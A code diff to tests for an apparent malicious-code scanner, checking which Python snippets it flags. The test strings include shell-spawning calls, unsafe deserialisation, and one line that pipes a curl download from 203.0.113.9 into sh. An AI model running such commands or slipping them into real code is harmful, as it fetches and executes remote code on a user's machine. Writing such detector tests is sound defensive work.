@@ -121,9 +121,9 @@ describe('prefilter, bundles and fallbacks', () => {
     assert.equal(analyseFile('a.js', 'export const x = 1;\n', sigs, DEFAULT_LIMITS, []), undefined);
   });
   it('Python: whole-word tokens do not run on into longer names; os.exec*, os.spawn* and os.popen still pass', () => {
-    const quiet = ['"""Execution and evaluation helpers."""\nnum_requests = 3\nwebsocket_url = None\npipeline = []\n', 'def execute(cmd):\n    return evaluate(cmd)\n'];
+    const quiet = ['"""Execution and evaluation helpers."""\nnum_requests = 3\nwebsocket_url = None\npipeline = []\n', 'def execute(cmd):\n    return evaluate(cmd)\n', 'from httpx import Response\n\ndef parse(r: httpx.Response) -> dict:\n    return r.json()\n'];
     for (const text of quiet) assert.equal(analyseFile('m.py', text, sigs, DEFAULT_LIMITS, []), undefined, text);
-    const passes = ['import os\nos.execv("/bin/sh", ["sh"])\n', 'import os\nos.popen("id")\n', 'import os\nos.spawnlp(0, "sh")\n', 'exec(payload)\n', 'import requests\n', 'x = zlib.decompress(s)\n', 'x = base64.urlsafe_b64decode(s)\n', 'x = binascii.unhexlify(s)\n'];
+    const passes = ['import os\nos.execv("/bin/sh", ["sh"])\n', 'import os\nos.popen("id")\n', 'import os\nos.spawnlp(0, "sh")\n', 'exec(payload)\n', 'import requests\n', 'x = zlib.decompress(s)\n', 'x = base64.urlsafe_b64decode(s)\n', 'x = binascii.unhexlify(s)\n', 'import httpx\nhttpx.get(URL)\n', 'import httpx as h\nh.post(URL)\n', 'import aiohttp\naiohttp.ClientSession()\n', 'obj = dill.loads(blob)\n', 'cfg = yaml.unsafe_load(text)\n'];
     for (const text of passes) assert.ok(analyseFile('m.py', text, sigs, DEFAULT_LIMITS, []), text);
     const sf = analyseFile('m.py', 'import os\nos.execv("/bin/sh", ["sh", "-c", "curl http://203.0.113.9/x | sh"])\n', sigs, DEFAULT_LIMITS, []);
     assert.ok(sf?.py?.sinks.some((k) => k.kind === 'process' && k.api === 'os.execv'));
